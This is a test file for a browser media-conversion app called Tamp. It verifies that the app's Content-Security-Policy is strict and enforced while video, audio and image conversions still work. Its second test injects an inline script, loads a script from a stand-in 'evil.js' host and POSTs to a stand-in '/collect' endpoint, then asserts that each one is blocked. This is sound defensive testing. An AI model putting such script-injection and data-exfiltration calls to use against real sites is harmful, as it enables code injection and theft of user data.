// Content-Security-Policy (issue 7): the page runs under a strict policy (no inline script
// but the build's own loader by hash, no eval, no other origin), everything the app does
// works under it, and the policy really is enforced. (eval is not probed: code run through
// page.evaluate, i.e. DevTools, is exempt from the policy's eval check; the policy text is.)
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import {
  serveDist, openApp, makeMedia, addFiles, jobItem, download, ffprobe, waitForOfflineReady, until, artifacts,
} from './harness.mjs';

const TIMEOUT = 8 * 60_000;
let server; let app;
const violations = [];

before(async () => {
  server = await serveDist();
  app = await openApp(server.url);
  // Every securitypolicyviolation event of every document of the session (the page reloads
  // once into cross-origin isolation), reported to the test through a binding.
  await app.page.exposeFunction('__tampCspViolation', (v) => violations.push(v));
  await app.page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      self.__tampCspViolation({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample, disposition: e.disposition });
    });
  });
  await app.page.reload();
  await app.page.getByRole('heading', { name: 'Tamp' }).waitFor();
});
after(async () => { await app?.browser.close(); server?.stop(); });

const cspErrors = () => app.consoleErrors.filter((m) => /Content.Security.Policy|Refused to/i.test(m));

test('a video (WebCodecs, with its AAC encoder), a sound (the multi-threaded FFmpeg core) and an image convert with no policy violation', { timeout: TIMEOUT }, async () => {
  const { page } = app;
  // Served by the service worker: the multi-threaded core, with its pthread workers, runs.
  await waitForOfflineReady(page);
  const response = await page.reload();
  await page.getByRole('heading', { name: 'Tamp' }).waitFor();
  const header = response.headers()['content-security-policy'] ?? '';
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  for (const policy of [header, meta]) {
    assert.match(policy, /default-src 'self'/);
    assert.match(policy, /script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/=]+'(;|$)/);
    assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'|data:|\*/);
    // blob: only for pictures and media (a job's preview and compare), never for scripts,
    // workers or connections.
    const withBlob = policy.split(';').map((d) => d.trim()).filter((d) => /blob:/.test(d));
    assert.deepEqual(withBlob, ["img-src 'self' blob:", "media-src 'self' blob:"]);
  }
  assert.ok(header.startsWith(`${meta}; `), 'the header is the meta policy plus frame-ancestors');
  assert.match(header, /frame-ancestors 'none'/);

  const clip = makeMedia('e2e-small.mp4', [
    '-f', 'lavfi', '-i', 'testsrc2=size=640x360:rate=25:duration=3', '-f', 'lavfi', '-i', 'sine=duration=3',
    '-c:v', 'libx264', '-preset', 'veryfast', '-b:v', '3M', '-c:a', 'aac', '-pix_fmt', 'yuv420p',
  ]);
  const image = makeMedia('csp-image.png', ['-f', 'lavfi', '-i', 'testsrc2=size=320x240', '-frames:v', '1']);
  // The browser's codecs do the video whole, so FFmpeg loads only for the sound.
  const sound = makeMedia('csp-sound.wav', ['-f', 'lavfi', '-i', 'sine=duration=2']);
  await page.getByLabel('Target size (MB)').fill('0.5');
  await page.getByLabel('Output format').selectOption({ label: 'Automatic' });
  await addFiles(page, [clip, image, sound]);
  await jobItem(page, 'e2e-small.mp4').getByText('video', { exact: true }).waitFor();
  await page.getByRole('button', { name: 'Convert', exact: true }).click();

  const video = jobItem(page, 'e2e-small.mp4');
  await video.getByRole('link', { name: 'Download e2e-small-0.5MB.mp4' }).waitFor({ timeout: TIMEOUT });
  await jobItem(page, 'csp-image.png').getByRole('link', { name: 'Download csp-image.webp' }).waitFor({ timeout: TIMEOUT });
  const audio = jobItem(page, 'csp-sound.wav');
  await audio.getByRole('link', { name: 'Download csp-sound.mp3' }).waitFor({ timeout: TIMEOUT });
  await audio.getByText('Details').first().click();
  assert.match(await audio.innerText(), /Engine: FFmpeg \(multi-threaded core\), (loaded in \d+ ms|already loaded)\./);
  await video.getByText('Details').first().click();
  const log = await video.innerText();
  assert.doesNotMatch(log, /Engine: FFmpeg/, 'the video never needed the FFmpeg core');
  // The video went through the browser's codecs (Mediabunny in the engine worker) without
  // falling back: a policy that blocked anything it needs would show up here, since a
  // violation inside a worker is not dispatched to the document.
  assert.match(log, /Encoder: the browser's own codecs \(WebCodecs\)/);
  assert.doesNotMatch(log, /could not do this file/);
  // Downloads are blob: URLs of local results: allowed (a navigation, not a fetch).
  const out = await download(page, video, 'e2e-small-0.5MB.mp4');
  const streams = ffprobe(out).streams;
  assert.equal(streams.find((s) => s.codec_type === 'video').codec_name, 'h264');
  assert.equal(streams.find((s) => s.codec_type === 'audio').codec_name, 'aac');
  await download(page, jobItem(page, 'csp-image.png'), 'csp-image.webp');
  await page.screenshot({ path: join(artifacts, 'csp-converted.png'), fullPage: true });

  assert.deepEqual(violations, [], 'securitypolicyviolation events');
  assert.deepEqual(cspErrors(), [], 'CSP errors in the console');
});

test('the policy is enforced: injected scripts, other origins and plugins are blocked and reported', { timeout: 60_000 }, async () => {
  const { page } = app;
  const before = violations.length;
  const result = await page.evaluate(async () => {
    const inline = document.createElement('script');
    inline.textContent = 'self.__tampInjected = "inline";';
    document.head.append(inline);
    const foreign = document.createElement('script');
    foreign.src = 'http://127.0.0.2:9/evil.js';
    document.head.append(foreign);
    let fetchResult;
    try { await fetch('http://127.0.0.2:9/collect', { method: 'POST', body: 'x' }); fetchResult = 'sent'; } catch (e) { fetchResult = e.name; }
    const obj = document.createElement('object');
    obj.data = './icon.svg';
    document.body.append(obj);
    return { injected: self.__tampInjected ?? null, fetchResult };
  });
  assert.deepEqual(result, { injected: null, fetchResult: 'TypeError' });
  await until(() => violations.length - before >= 4, { timeout: 10_000, what: 'four violation reports' });
  const got = violations.slice(before);
  assert.ok(got.every((v) => v.disposition === 'enforce'));
  const has = (directive, blocked) => got.some((v) => v.directive === directive && (blocked === undefined || v.blocked.startsWith(blocked)));
  assert.ok(has('script-src-elem', 'inline'), JSON.stringify(got));
  assert.ok(has('script-src-elem', 'http://127.0.0.2:9/evil.js'), JSON.stringify(got));
  assert.ok(has('connect-src', 'http://127.0.0.2:9/collect'), JSON.stringify(got));
  assert.ok(has('object-src'), JSON.stringify(got));
  assert.ok(cspErrors().length > 0, 'Chromium logs the blocked loads');
  // The page still works after all that.
  assert.equal(await page.getByRole('button', { name: 'Convert', exact: true }).isVisible(), true);
});
